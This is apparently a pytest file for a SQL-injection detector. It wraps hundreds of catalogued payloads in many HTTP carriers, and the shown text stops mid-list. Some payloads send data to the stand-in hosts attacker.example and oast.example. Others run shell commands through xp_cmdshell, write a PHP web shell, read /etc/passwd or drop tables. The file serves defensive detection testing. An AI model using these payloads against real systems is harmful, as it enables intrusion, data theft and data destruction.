"""SQL injection as others write it (sqlmap tampers, cheat sheets, PoCs) in many carriers, beside benign near-misses."""
from __future__ import annotations

import base64
import json
import urllib.parse

import pytest

from sensor.detect import THRESHOLD, sqli, verdict
from sensor.detect.rawrequest import RawRequest
from tests.detect.conftest import req

_BROWSER = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"),
            ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"), ("Accept-Language", "en-GB,en;q=0.7")]


def _q(v: str) -> str:
    return urllib.parse.quote(v, safe="")


def build(carrier: str, value: str) -> RawRequest:
    """One request carrying `value` the way an application would receive it through `carrier`."""
    if carrier == "q":          # query string, percent-encoded
        return req(f"/products?category=shoes&id={_q(value)}", headers=_BROWSER)
    if carrier == "q+":         # query string, spaces as `+` (space2plus)
        return req("/search?q=" + urllib.parse.quote_plus(value), headers=_BROWSER)
    if carrier == "q2":         # double percent-encoding
        return req(f"/item?ref={_q(_q(value))}", headers=_BROWSER)
    if carrier == "qraw":       # sent as typed (tampers whose output is already URL-shaped)
        return req(f"/list?page=2&sort={value}", headers=_BROWSER)
    if carrier == "html":       # HTML entities in a query value (an app that unescapes)
        ent = "".join(f"&#{ord(c)};" if c in "'\"<>=() " else c for c in value)
        return req(f"/view?name={_q(ent)}", headers=_BROWSER)
    if carrier == "b64":        # base64 in a parameter the application decodes
        return req(f"/report?filter={_q(base64.b64encode(value.encode()).decode())}", headers=_BROWSER)
    if carrier == "form":
        body = ("user=alice&comment=" + _q(value)).encode()
        return req("/account/update", "POST", [("Content-Type", "application/x-www-form-urlencoded")] + _BROWSER, body)
    if carrier == "json":       # nested JSON body
        body = json.dumps({"filter": {"fields": [{"name": "sku", "value": value}]}, "page": 1}).encode()
        return req("/api/v2/search", "POST", [("Content-Type", "application/json")], body)
    if carrier == "jsonu":      # JSON with every non-alphanumeric character as a \\u escape
        esc = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in value)
        body = ('{"order": {"id": "' + esc + '"}}').encode()
        return req("/api/orders/lookup", "POST", [("Content-Type", "application/json")], body)
    if carrier == "cookie":
        return req("/dashboard", headers=_BROWSER + [("Cookie", f"session=ab12cd34; lang={_q(value)}; theme=dark")])
    if carrier == "ua":
        return req("/", headers=[("User-Agent", value), ("Accept", "*/*")])
    if carrier == "referer":
        return req("/checkout", headers=_BROWSER + [("Referer", f"https://shop.example/cart?coupon={_q(value)}")])
    if carrier == "xff":
        return req("/login", headers=_BROWSER + [("X-Forwarded-For", value)])
    if carrier == "hdr":        # a custom header an app reads (tenant, tracking id)
        return req("/api/me", headers=_BROWSER + [("X-Tenant-Id", value)])
    if carrier == "path":       # one URL path segment
        return req(f"/catalog/item/{_q(value)}/reviews", headers=_BROWSER)
    if carrier == "xml":
        esc = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        body = f'<?xml version="1.0"?><order><customer id="7"><name>{esc}</name></customer></order>'.encode()
        return req("/soap/orders", "POST", [("Content-Type", "application/xml")], body)
    if carrier == "xmlraw":     # value written into XML as is (it may carry character references)
        body = f'<?xml version="1.0" encoding="UTF-8"?><stockCheck><productId>3</productId><storeId>{value}</storeId></stockCheck>'.encode()
        return req("/product/stock", "POST", [("Content-Type", "application/xml")], body)
    if carrier == "gql":        # a GraphQL argument written inline in the query
        body = json.dumps({"query": '{ user(name: "' + value.replace("\\", "\\\\").replace('"', '\\"') + '") { id email } }'}).encode()
        return req("/graphql", "POST", [("Content-Type", "application/json")], body)
    if carrier == "formkey":    # inside a form parameter *name* (PHP/Drupal arrays: `name[KEY]=v`)
        body = ("name[" + _q(value) + "]=a&name[0]=b&pass=x&form_id=user_login").encode()
        return req("/user/login", "POST", [("Content-Type", "application/x-www-form-urlencoded")] + _BROWSER, body)
    if carrier == "acceptlang":
        return req("/", headers=[("User-Agent", _BROWSER[0][1]), ("Accept-Language", value)])
    if carrier == "filename":   # an uploaded file's name
        b = "----rampartBoundaryQ2"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{value}\"\r\n"
                f"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--{b}--\r\n").encode("utf-8", "surrogateescape")
        return req("/profile/avatar", "POST", [("Content-Type", f"multipart/form-data; boundary={b}")], body)
    if carrier == "b64cookie":  # base64 JSON session cookie
        tok = base64.b64encode(json.dumps({"id": value, "role": "user"}).encode()).decode()
        return req("/account", headers=_BROWSER + [("Cookie", f"session={tok}")])
    if carrier == "gqlq":       # a whole GraphQL document
        return req("/graphql", "POST", [("Content-Type", "application/json")], json.dumps({"query": value}).encode())
    if carrier == "multipart":
        b = "----rampartBoundary7MA4YWxk"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{value}\r\n"
                f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
                f"Content-Type: text/plain\r\n\r\nhello\r\n--{b}--\r\n").encode()
        return req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={b}")], body)
    raise ValueError(carrier)


# (carrier, payload). Grouped by technique; each payload is written the way a person or a tool sends it.
ATTACKS: list[tuple[str, str]] = [
    # --- tautologies: every operator and quoting style
    ("q", "1 or 1=1"),
    ("q", "1' or '1'='1"),
    ("form", '1" or "1"="1'),
    ("json", "admin' or 1=1-- -"),
    ("q", "' or ''='"),
    ("cookie", "' or 'x'='x"),
    ("q", "') or ('a'='a"),
    ("form", "')) or (('x'='x"),
    ("q", '" or ""="'),
    ("q", "1) or (1=1"),
    ("q", "1)) or ((1=1"),
    ("json", "` or 1=1-- -"),
    ("q", "name` = 1 or 1=1#"),
    ("form", "' or 1 like 1-- "),
    ("q", "' or 2>1--"),
    ("hdr", "x' or 'a'<>'b"),
    ("q", "' or 3 between 1 and 5--"),
    ("q", "' or 1 in (1)-- -"),
    ("form", "1' or true-- "),
    ("q", "' || 1=1--"),
    ("q", "' && 1=1#"),
    ("q", "' or not false#"),
    ("form", "'or''='"),
    ("q", "1 or 0x50=0x50"),
    ("json", "' or 'abc' like 'a%"),
    ("form", "admin'#"),
    ("form", "admin' /*"),
    ("q", "admin'-- "),
    ("q", "' or 1 -- -"),
    ("q", "-1' or 'a' regexp 'a"),
    ("q", "1 || 1=1"),
    ("q", "1' or 'a'='a'-- -"),
    ("xml", "' or '1'='1"),
    ("multipart", "\" or 1=1 or \"\"=\""),
    ("q", "x' or 1=1 limit 1-- -"),
    ("ua", "Mozilla/5.0' or '1'='1"),
    ("path", "1' or '1'='1"),
    ("q", "1 or 2 > 1"),
    ("q", "1' or 5 <=> 5-- "),
    ("q", "1' or 1 is not null-- -"),
    ("q", "' or 'x'!='y"),
    ("q", "1 or 'a' sounds like 'a'"),
    ("q", "'-0-'"),
    # --- UNION based
    ("q", "1 union select 1,2,3--"),
    ("q", "-1 union all select null,null,null-- -"),
    ("form", "' union select username, password from users--"),
    ("q", "1 union distinct select 1,version()"),
    ("q", "1/*!50000union*/ /*!50000select*/ 1,2"),
    ("q", "-1' UNION SELECT NULL,NULL,table_name FROM information_schema.tables-- -"),
    ("json", "0 union select 1,group_concat(column_name) from information_schema.columns where table_name=0x7573657273"),
    ("q", "1e0union select 1,2"),
    ("q", "1.0union select 1"),
    ("q", "-1 /*!union*/ /*!select*/ 1"),
    ("cookie", "1 UnIoN aLl SeLeCt 1,2"),
    ("q", "1\nunion\nselect\n1"),
    ("q", "1 union(select 1,2)"),
    ("q", "1 union select * from (select 1)a join (select 2)b"),
    ("form", "') union select 1,2,3 #"),
    ("q", "1 uni/**/on sel/**/ect 1"),
    ("referer", "-1 union select 1,load_file('/etc/passwd')"),
    ("q", "1 UNION SELECT @@version,NULL"),
    ("q", "' union select char(97,100,109),2--"),
    ("q", "1 union select 0x61646d696e, 2"),
    ("q", "-.1union select 1"),
    ("q", "999999 union select banner from v$version"),
    ("xml", "1 union select name, sql from sqlite_master--"),
    ("q", "' union select name from sys.tables--"),
    ("q", "1 union select name from master..sysdatabases"),
    ("q", "1 union select usename, passwd from pg_shadow"),
    ("q", "1 union select table_name from all_tables"),
    ("q2", "1 union select 1,2,3"),
    ("jsonu", "1' union select 1,2-- -"),
    ("b64", "1 union select user,password from mysql.user"),
    # --- stacked queries
    ("q", "1; drop table users--"),
    ("form", "1'; DROP TABLE users; --"),
    ("q", "'; exec xp_cmdshell 'whoami'--"),
    ("q", "1;exec master..xp_cmdshell 'ping 10.0.0.1'"),
    ("q", "1; waitfor delay '0:0:10'--"),
    ("json", "'; waitfor delay '00:00:05'--"),
    ("q", "1; select pg_sleep(10)--"),
    ("form", "1; insert into users(name,pass) values('x','y')--"),
    ("q", "1; update users set role='admin' where id=1--"),
    ("q", "1;shutdown--"),
    ("form", "'; declare @q varchar(99); set @q='\\\\attacker.example\\x'; exec master.dbo.xp_dirtree @q;--"),
    ("q", "1; create table t(x text); copy t from program 'id'--"),
    ("q", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE--"),
    ("q", "');truncate table logs--"),
    ("cookie", "1;delete from sessions--"),
    ("hdr", "acme'; drop database acme;--"),
    # --- boolean blind
    ("q", "1 and 1=2"),
    ("q", "1' and '1'='2"),
    ("q", "1 and substring(version(),1,1)=5"),
    ("form", "1' and ascii(substr((select password from users limit 1),1,1))>64-- -"),
    ("q", "1 and length(database())=8"),
    ("q", "1 AND (SELECT COUNT(*) FROM users)>0"),
    ("q", "1' AND 1=(SELECT 1 FROM dual)--"),
    ("q", "1 and mid(user(),1,1)='r'"),
    ("json", "' and (select 'x' from users where username='admin')='x"),
    ("q", "1 and exists(select * from users)"),
    ("q", "1' and unicode(substring(@@version,1,1))>0--"),
    ("q", "1 AND 2 NOT BETWEEN 0 AND 1"),
    ("q", "1 AND ASCII(SUBSTR(user(),1,1)) BETWEEN 64 AND 65"),
    ("q", "1 AND GREATEST(ASCII(MID(user(),1,1)),65)=65"),
    ("q", "1 and 1 like 1"),
    ("q", "1 and MID(VERSION() FROM 1 FOR 1)='5'"),
    # --- time based blind, every dialect
    ("q", "1 and sleep(5)"),
    ("q", "1' AND SLEEP(5)-- -"),
    ("cookie", "1 or sleep(5)#"),
    ("q", "1' and (select * from (select(sleep(5)))a)--"),
    ("q", "1 and benchmark(5000000,md5('a'))"),
    ("form", "1' and if(1=1,sleep(5),0)-- -"),
    ("q", "1' || pg_sleep(5)--"),
    ("q", "1 and 1=(select 1 from pg_sleep(5))"),
    ("q", "1' and 1=dbms_pipe.receive_message('a',5)--"),
    ("q", "1 and 123=like('abcdefg',upper(hex(randomblob(500000000/2))))"),
    ("q", "1' and randomblob(1000000000)--"),
    ("q", "1) waitfor delay '0:0:5'--"),
    ("q", "sleep(5)#"),
    ("ua", "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z"),
    ("xff", "\"XOR(if(now()=sysdate(),sleep(5),0))OR\""),
    ("q", "1 rlike sleep(5)"),
    ("q", "1 and dbms_lock.sleep(5)"),
    ("q", "(select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)"),
    ("xff", "127.0.0.1' and sleep(5)-- -"),
    ("q", "1 AND GET_LOCK('ETgP',5)"),
    ("q", "1' and 1=(select count(*) from all_users t1, all_users t2, all_users t3)--"),
    ("referer", "1'+(select*from(select(sleep(5)))a)+'"),
    # --- error based
    ("q", "1 and extractvalue(1,concat(0x7e,version()))"),
    ("q", "1' and updatexml(1,concat(0x7e,(select user())),1)-- -"),
    ("q", "1 and convert(int,@@version)--"),
    ("form", "1' and 1=convert(int,(select top 1 name from sysobjects))--"),
    ("q", "1 and 1=cast((select version()) as int)"),
    ("q", "1' and 1=cast(current_user as int)--"),
    ("q", "1 and exp(~(select * from (select user())x))"),
    ("q", "1 and geometrycollection((select * from(select * from(select user())a)b))"),
    ("q", "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
    ("q", "1 and ctxsys.drithsx.sn(1,(select user from dual))"),
    ("q", "1 and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))"),
    ("q", "1' and json_keys((select convert((select version()) using utf8)))--"),
    ("q", "1 and polygon((select * from (select * from (select @@version) f) x))"),
    ("q", "' and 1=cast(version() as numeric)--"),
    ("q", "1 and 1=(select 1/0 from dual)"),
    ("q", "' and 1 in (select @@version)--"),
    # --- out of band
    ("q", "1 union select load_file('\\\\\\\\attacker.example\\\\a')"),
    ("q", "1 and load_file(concat('\\\\\\\\',version(),'.attacker.example\\\\a'))"),
    ("q", "1 and utl_http.request('http://attacker.example/'||(select user from dual))=1"),
    ("q", "1; exec master..xp_dirtree '\\\\attacker.example\\x'--"),
    ("form", "'; exec xp_dirtree '//attacker.example/a'--"),
    ("q", "1 and (select dbms_ldap.init(('attacker.example'),80) from dual) is not null"),
    ("q", "'; copy (select '') to program 'nslookup attacker.example'--"),
    ("q", "1 and extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/\">%x;]>'),'/l') is null"),
    # --- enumeration of catalogs
    ("q", "1 and (select count(*) from sqlite_master)>0"),
    ("q", "'||(select table_name from user_tables where rownum=1)||'"),
    ("q", "1 and (select top 1 name from sys.objects)>0"),
    ("q", "' and 1=(select count(*) from pg_catalog.pg_tables)--"),
    ("q", "1 and (select schema_name from information_schema.schemata limit 1)='a'"),
    ("q", "information_schema/**/.tables"),
    # --- ORDER BY / GROUP BY / HAVING probes
    ("q", "1 order by 1--"),
    ("q", "1' order by 5-- -"),
    ("q", "1 order by 10#"),
    ("form", "1' group by 1,2,3 having 1=1--"),
    ("q", "' having 1=1--"),
    ("q", "1 group by concat(version(),floor(rand(0)*2)) having min(0)"),
    ("q", "1\") order by 3--"),
    ("q", "1 procedure analyse()"),
    ("q", "1' group by password having 1=1--"),
    # --- writing files
    ("q", "1 union select '<?php system($_GET[c]); ?>' into outfile '/var/www/html/s.php'"),
    ("q", "' into dumpfile '/tmp/x'--"),
    ("q", "1 into outfile '/tmp/x'"),
    ("q", "1 limit 1 into outfile '/var/www/x.txt' lines terminated by 0x3c3f706870"),
    # --- string building
    ("q", "' or username=char(97,100,109,105,110)--"),
    ("q", "1 and concat('a','b')='ab'"),
    ("q", "' or 'ad'||'min'='admin"),
    ("q", "1 union select 0x3c3f70687020706870696e666f28293b3f3e"),
    ("q", "' and 0x61646d696e='admin"),
    ("q", "1 and chr(65)||chr(66)='AB'"),
    ("q", "' + char(0x41) + '"),
    ("q", "'||(select 1)||'"),
    ("q", "admin' + '"),
    ("q", "1 and concat_ws(0x3a,user(),database())"),
    # --- sqlmap tamper outputs
    ("q", "1/**/AND/**/1=1"),
    ("q", "1'/**/UNION/**/SELECT/**/1,2--"),
    ("q", "1 AnD 1=1"),
    ("q+", "1 union select 1,2"),
    ("q", "%S%E%L%E%C%T %F%I%E%L%D %F%R%O%M %T%A%B%L%E"),
    ("q", "1 %A%N%D 1=1"),
    ("q", "1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!NULL*/"),
    ("q", "1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,124,58)),/*!0NULL#"),
    ("q", "1 /*!30874AND 2>1*/--"),
    ("q", "1 /*!00000AND 2>1*/--"),
    ("q", "1 && 1=1"),
    ("q", "1' || '1'='1"),
    ("q", "1#foo\nAND#bar\n1=1"),
    ("q", "1--nVNaVoPYeva\nAND--ngNvzqu\n1=1"),
    ("q", "1\x01AND\x0b1=1"),
    ("q", "1\tunion\x0cselect\r1"),
    ("q", "1\\' AND SLEEP(5)#"),
    ("q", "1 AND 9227=9227-- sp_password"),
    ("q", "1\u00bf' or 1=1-- "),
    ("q", "1\uff07 or 1=1-- -"),
    ("qraw", "1%00%27%20or%201=1--%20"),
    ("qraw", "1%u0027%u0020or%u00201=1--"),
    ("qraw", "1%C0%A7%20or%201=1--%20"),
    ("q", "1 LIMIT 1 OFFSET 0 UNION SELECT 1"),
    ("q", "1 AND IFNULL(1,2)=1"),
    ("q", "1 AND IF(ISNULL(1),2,1)=1"),
    ("q", "1 AND I/**/F(1=1,1,0)"),
    ("q", "1 AND LEFT(user(),1)='r'"),
    ("q", "1' AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64 AND 'x'='x"),
    ("q", "1%'and 1=1 and '%'='"),
    ("q", "1' and 1.e(ascii(1))>0-- -"),
    ("q", "1 and 1.e(ascii(1))"),
    ("q", "1 and 1=1e0union select 1"),
    ("q", "1' DIV 1=1-- -"),
    ("q", "1 and 1 div 0"),
    # --- PostgreSQL JSON operators and casts
    ("q", "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'--"),
    ("json", "1' and '{\"a\":2}'::jsonb ? 'a' --"),
    ("q", "' or '[1,2]'::jsonb @> '[1]"),
    ("q", "x' or 'a'::text = 'a'--"),
    ("q", "1 and 1=(select 1)::int"),
    # --- injections in column / ORDER BY positions
    ("qraw", "name%20desc,(select%20case%20when%20(1=1)%20then%201%20else%201/0%20end)"),
    ("q", "(case when (select substr(version(),1,1))='5' then id else price end)"),
    ("q", "id,(select sleep(5))"),
    ("q", "if(1=1,id,price)"),
    ("q", "(select 1 from dual where 1=1)"),
    ("q", "price,extractvalue(1,concat(0x7e,user()))"),
    ("q", "1,(select (case when (1=1) then 1 else 1*(select 1 from information_schema.tables) end)=1)"),
    ("q", "id desc limit 1,1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("q", "(select 1 from pg_sleep(5))"),
    ("q", "rand(1=1)"),
    ("q", "name;drop table x"),
    ("q", "price asc,if(ascii(substr(user(),1,1))>64,id,price)"),
    ("q", "(select (case when (1=1) then 'a' else 'b' end))"),
    ("form", "created_at desc, (case when (1=1) then name else email end)"),
    ("q", "name` desc, sleep(5)#"),
    # --- auth-bypass lists (PayloadsAllTheThings / Friedl's "SQL injection attacks by example")
    ("form", "admin') or ('1'='1'--"),
    ("form", "admin\" or \"1\"=\"1\"/*"),
    ("form", "admin\"or 1=1 or \"\"=\""),
    ("form", "1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055"),
    ("json", "') or ('x')=('x"),
    ("json", "\")) or ((\"x\"))=((\"x"),
    ("form", "' or ''-'"),
    ("form", "\" or \"\"&\""),
    ("form", "or 1=1--"),
    ("q", "\") or true--"),
    ("q", "x' AND email IS NULL; --"),
    ("q", "x' AND members.email IS NULL; --"),
    ("q", "x' OR full_name LIKE '%Bob%"),
    ("form", "x'; INSERT INTO members ('email','passwd','login_id','full_name') VALUES ('steve@example.net','hello','steve','Steve');--"),
    ("q", "x' AND 1=(SELECT COUNT(*) FROM tabname); --"),
    ("q", "23 OR 1=1"),
    ("q", "'=0--+"),
    ("q", "'oR'1'='1"),
    ("q", "'like'"),
    # --- no-space and parenthesis styles
    ("q", "1'or(1=1)#"),
    ("q", "'or'1'='1"),
    ("q", "1'union(select(1),(2))#"),
    ("q", "0'union(select(table_name)from(information_schema.tables))#"),
    ("q", "1\x0bor\x0b1=1"),
    ("q", "1'\xa0or\xa01=1-- -"),
    ("q", "(1)or(1)=(1)"),
    ("q", "1'and(ascii(substr((select(user())),1,1))>64)#"),
    ("q", "1'and(sleep(5))-- -"),
    ("q", "'or(1)or'"),
    ("q", "1'||1#"),
    ("q", "1*(select 1 from(select sleep(5))x)"),
    ("q", "if(substr(user(),1,1)='r',sleep(5),0)"),
    ("q", "(select*from(select(sleep(5)))a)"),
    ("q", "1-sleep(5)"),
    ("q", "1'/*foo*/or/*bar*/'1'='1"),
    ("q", "1 /*!12345UNION SELECT*/ 1"),
    ("q", "1\u2019 or \u20181\u2019=\u20181"),
    # --- time-based list variants
    ("q", "\" or sleep(5)=\""),
    ("q", "')) or sleep(5)='"),
    ("q", "\");waitfor delay '0:0:5'--"),
    ("q", "benchmark(10000000,MD5(1))#"),
    ("q", "pg_sleep(5)--"),
    ("q", "AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe"),
    ("q", "&&SLEEP(5)"),
    ("q", "' AnD SLEEP(5) ANd '1"),
    ("q", "'&&SLEEP(5)&&'1"),
    ("q", "ORDER BY SLEEP(5)"),
    ("q", "+ SLEEP(10) + '"),
    ("q", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/"),
    ("q", "IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1))/*'XOR(IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1)))OR'|\"XOR(IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1)))OR\"*/"),
    ("q", "RANDOMBLOB(500000000/2)"),
    ("q", "1 if 1=1 waitfor delay '0:0:5'"),
    ("q", "'; if (select user) = 'sa' waitfor delay '0:0:5'--"),
    ("q", "1' and elt(1,sleep(5))-- -"),
    ("q", "1 and make_set(1,sleep(5))"),
    # --- dialect specifics
    ("q", "' || (select utl_inaddr.get_host_name('10.0.0.1') from dual) || '"),
    ("q", "' union select null,banner from v$version where rownum=1--"),
    ("q", "1 and 1=db_name()"),
    ("q", "' and 1=@@servername--"),
    ("q", "'; exec('sel'+'ect 1')--"),
    ("q", "'; exec sp_executesql N'select 1'--"),
    ("form", "1;DECLARE @T VARCHAR(255),@C VARCHAR(255) DECLARE Table_Cursor CURSOR FOR SELECT a.name,b.name FROM sysobjects a,syscolumns b WHERE a.id=b.id"),
    ("q", "1;declare @s varchar(8000) set @s=0x73656c65637420313b exec(@s)--"),
    ("q", "'; select * from openrowset('SQLOLEDB','srv';'sa';'','select 1')--"),
    ("q", "';BACKUP DATABASE master TO DISK='\\\\attacker.example\\share\\x.bak'--"),
    ("q", "'; exec sp_addsrvrolemember 'hax','sysadmin'--"),
    ("q", "' union select 1,sqlite_version()--"),
    ("q", "' and substr(sqlite_version(),1,1)='3"),
    ("q", "'; attach database '/var/www/x.php' as x; create table x.p(t text);--"),
    ("q", "1;select current_setting('is_superuser')"),
    ("q", "' and 1=(select cast(chr(126)||version() as numeric))--"),
    ("q", "' || (select string_agg(usename,',') from pg_user)--"),
    ("q", "1; select $$abc$$"),
    ("q", "'||pg_read_file('/etc/passwd')||'"),
    ("q", "' and query_to_xml('select 1',true,true,'') is not null--"),
    ("q", "1 and @@version like '5%'"),
    ("q", "1'and(select 1)='1"),
    ("q", "1 and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)"),
    ("q", "1 and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'),1,1)))>116"),
    ("q", "admin' and substring(password,1,1)='a'--"),
    ("q", "1 and 1=2 union select 1,2"),
    ("q", "' and '1'='1' union select null,table_name from information_schema.tables where 'a'='a"),
    ("q", "-1 union select 1,2,3 into @,@,@#"),
    # --- WAF-bypass spellings
    ("q", "/*!50000%75%6e%69on*/ %73%65%6cect 1"),
    ("q", "1 union#foo*/*bar\nselect#foo\n1,2"),
    ("q", "%55nion %53elect 1,2"),
    ("qraw", "un?+un/**/ion+se/**/lect+1,2"),
    ("q", "1 union /*!select*/ 1"),
    ("qraw", "1%20UNION/*&test=1*/SELECT/*&pwn=2*/1"),
    ("qraw", "-1+union+select+1"),
    ("q", "1 and 1=1 -- -"),
    # --- more carriers for the same techniques
    ("cookie", "1' and 1=1#"),
    ("cookie", "x'||pg_sleep(5)--"),
    ("ua", "' or sleep(5)#"),
    ("ua", "Mozilla/5.0 (X11) AppleWebKit/537.36' and extractvalue(1,concat(0x7e,version()))-- -"),
    ("referer", "1';select pg_sleep(5)--"),
    ("xff", "1.1.1.1' or 1=1#"),
    ("xff", "10.0.0.1'; waitfor delay '0:0:5'--"),
    ("hdr", "1 union select null,@@version-- -"),
    ("hdr", "acme' and (select 1 from (select sleep(5))a)-- -"),
    ("path", "1 union select 1,2"),
    ("path", "5 and sleep(5)"),
    ("path", "9'; drop table orders--"),
    ("xml", "1 and 1=convert(int,(select @@version))"),
    ("xml", "x'; exec master..xp_cmdshell 'ping attacker.example'--"),
    ("multipart", "' union select 1,table_name from information_schema.tables-- -"),
    ("multipart", "1 and updatexml(1,concat(0x7e,user()),1)"),
    ("jsonu", "' or 1=1-- -"),
    ("jsonu", "1 and sleep(5)"),
    ("q2", "' or 'a'='a"),
    ("q2", "1'; waitfor delay '0:0:5'--"),
    ("html", "' or '1'='1"),
    ("html", "1 union select 1,2"),
    ("b64", "' or 1=1-- -"),
    ("b64", "1; drop table users--"),
    ("json", "1' and (select 1 from pg_sleep(5)) is null--"),
    ("form", "1 AND 1=1 ORDER BY 1"),
    # --- scanner payloads (sqlmap boundaries, Acunetix, Burp) and CTF staples
    ("q", "1 AND 5617=5617"),
    ("q", "1) AND 5617=5617 AND (7385=7385"),
    ("q", "1' AND 5617=5617 AND 'abcd'='abcd"),
    ("q", "1\")) AND 5617=5617 AND ((\"abcd\"=\"abcd"),
    ("q", "1' AND 5617=5617 AND 'abcd' LIKE 'abcd"),
    ("q", "1 RLIKE (SELECT (CASE WHEN (5617=5617) THEN 1 ELSE 0x28 END))"),
    ("q", "1 AND MAKE_SET(5617=5617,3520)"),
    ("q", "1 AND ELT(5617=5617,3520)"),
    ("q", "(SELECT (CASE WHEN (5617=5617) THEN 1 ELSE (SELECT 3520 UNION SELECT 2165) END))"),
    ("q", "1 AND EXTRACTVALUE(5617,CONCAT(0x5c,0x7171786a71,(SELECT (ELT(5617=5617,1))),0x716a6b7071))"),
    ("q", "1 OR 5617=(SELECT 5617 FROM PG_SLEEP(5))"),
    ("q", "1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5) FROM DUAL--"),
    ("q", "1 WAITFOR DELAY '0:0:5'"),
    ("q", "1 AND 5617=CONVERT(INT,(SELECT CHAR(113)+CHAR(120)+(SELECT (CASE WHEN (5617=5617) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))"),
    ("q", "1 UNION ALL SELECT NULL,CONCAT(0x7171,0x4a,0x7171)-- -"),
    ("q", "1 AND 5617=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (5617=5617) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)"),
    ("q", "1 AND 5617=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN (5617=5617) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)"),
    ("q", "1'.(\"(,.)\""),
    ("q", "1)(\"'.(,,."),
    ("q", "999999.9 union all select 0x31303235343830303536,0x31303235343830303536--"),
    ("q", "-1 OR 2+342-342-1=0+0+0+1 --"),
    ("q", "-1' OR 2+342-342-1=0+0+0+1 or 'abc'='"),
    ("q", "0\"XOR(if(now()=sysdate(),sleep(15),0))XOR\"Z"),
    ("q", "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/"),
    ("q", "-5) OR 427=(SELECT 427 FROM PG_SLEEP(15))--"),
    ("q", "1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||'"),
    ("q", "1*DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(99)||CHR(99),15)"),
    ("q", "-1\" OR 3*2*1=6 AND 000XXX--"),
    ("q", "1 AND 3*2*1=6 AND 000XXX=000XXX"),
    ("q", ",(select * from (select(sleep(10)))a)"),
    ("q", "'||(select extractvalue(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % abc SYSTEM \"http://oast.example/\">%abc;]>'),'/l') from dual)||'"),
    ("q", "'+(select load_file('\\\\\\\\oast.example\\\\x'))+'"),
    ("q", "'||(select 1 from pg_sleep(10))||'"),
    ("q", "1';handler flag open;handler flag read first;#"),
    ("q", "1';show tables;#"),
    ("q", "1';show databases;#"),
    ("q", "1';desc users;#"),
    ("q", "1';set @a=0x73656c65637420312c32;prepare s from @a;execute s;#"),
    ("q", "1';rename table words to x;alter table x change flag id varchar(100);#"),
    ("q", "admin'and/**/extractvalue(1,concat(0x7e,(select/**/database())))#"),
    ("q", "-1' union select 1,(select group_concat(flag) from flag),3#"),
    ("form", "x', (select password from users limit 1))-- -"),
    ("form", "','',(select version()))-- -"),
    ("form", "x',email=(select user()) where id=1#"),
    ("form", "x', isadmin=1 where username='bob'-- "),
    ("form", "x'), ('admin', 'pw')-- -"),
    ("q", "1 and 'a'='a'"),
    ("q", "1 and true=true"),
    ("q", "1 and null is null"),
    ("q", "1 and 1::int=1"),
    ("q", "';select version();--"),
    ("q", "' and (select hex(substr(tbl_name,1,1)) from sqlite_master where type='table' limit 1 offset 0) > hex('a')--"),
    ("q", "';CREATE ALIAS EXEC AS 'String e(String c) throws Exception{return c;}';CALL EXEC('id')--"),
    ("q", "' and (select count(*) from all_users)>0--"),
    ("q", "' union select null from dual--"),
    ("q", "'||(select user from dual)||'"),
    ("q", "' union select 1 from sysibm.sysdummy1--"),
    ("q", "' and 1=(select count(*) from syscat.tables)--"),
    ("q", "' union select 1 from msysobjects"),
    ("q", "' and iif(1=1,1,0)=1"),
    ("q", "' union select 1 from rdb$database--"),
    ("q", "\\Nunion select 1,2"),
    ("q", "1 and match(title) against ('+x' in boolean mode)"),
    ("q", "1;merge into users u using dual on (1=1) when matched then update set u.role='admin'"),
